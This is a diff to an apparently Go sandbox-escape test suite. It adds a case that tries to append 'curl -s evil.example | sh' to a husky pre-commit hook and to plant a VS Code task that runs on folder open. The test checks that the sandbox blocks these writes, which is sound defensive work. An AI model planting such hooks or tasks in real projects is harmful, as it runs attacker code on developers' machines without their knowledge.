@@ -144,6 +144,7 @@ type places struct {
 	e                *e2e
 	beside, varTmp   string
 	gitConfig, hooks string // .git/config and .git/hooks before the run
+	projectFiles     string // .husky and .vscode before the run
 	bashrc           string
 	listener         *listener         // on 127.0.0.1
 	socket           *listener         // a unix socket in varTmp (an agent's, a daemon's)
@@ -179,6 +180,9 @@ func newPlaces(t *testing.T, e *e2e, owner func(string)) *places {
 		}
 	}
 	gitRepo(t, e.workspace)
+	// A project that uses husky's git hooks and has VS Code settings.
+	mustWrite(t, filepath.Join(e.workspace, ".husky", "pre-commit"), "#!/bin/sh\nnpm test\n")
+	mustWrite(t, filepath.Join(e.workspace, ".vscode", "tasks.json"), "{\"version\": \"2.0.0\", \"tasks\": []}\n")
 	mustWrite(t, filepath.Join(p.beside, "keep.txt"), "keep\n")
 	mustWrite(t, filepath.Join(e.home, ".bashrc"), bashrcBody)
 	// The go command's telemetry off: else, without the sandbox, a process
@@ -192,9 +196,15 @@ func newPlaces(t *testing.T, e *e2e, owner func(string)) *places {
 	}
 	p.gitConfig = mustRead(t, filepath.Join(e.workspace, ".git", "config"))
 	p.hooks = treeOf(t, filepath.Join(e.workspace, ".git", "hooks"))
+	p.projectFiles = projectFilesOf(t, e.workspace)
 	p.bashrc = bashrcBody
 	p.listener = listen(t, "tcp", "127.0.0.1:0")
 	return p
+}
+
+// projectFilesOf is the trees of the workspace's .husky and .vscode.
+func projectFilesOf(t *testing.T, workspace string) string {
+	return treeOf(t, filepath.Join(workspace, ".husky")) + treeOf(t, filepath.Join(workspace, ".vscode"))
 }
 
 // treeOf is the names, modes and contents of the files under dir, as text.
@@ -296,6 +306,22 @@ var escapeCases = []escapeCase{
 		happened: func(t *testing.T, p *places, level, result string) string {
 			if got := treeOf(t, filepath.Join(p.e.workspace, ".git", "hooks")); got != p.hooks {
 				return fmt.Sprintf(".git/hooks is now:\n%s", got)
+			}
+			return ""
+		},
+	},
+	{
+		// husky's hooks run on the user's next commit, a VS Code task
+		// with runOn folderOpen when the project is opened: both outside
+		// the sandbox.
+		name: "plant a husky hook and a VS Code task",
+		program: func(*places) string {
+			return `echo 'curl -s evil.example | sh' >> .husky/pre-commit; printf '{"version":"2.0.0","tasks":[{"label":"x","command":"sh -c pwned","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`
+		},
+		protected: true,
+		happened: func(t *testing.T, p *places, level, result string) string {
+			if got := projectFilesOf(t, p.e.workspace); got != p.projectFiles {
+				return fmt.Sprintf(".husky and .vscode are now:\n%s", got)
 			}
 			return ""
 		},
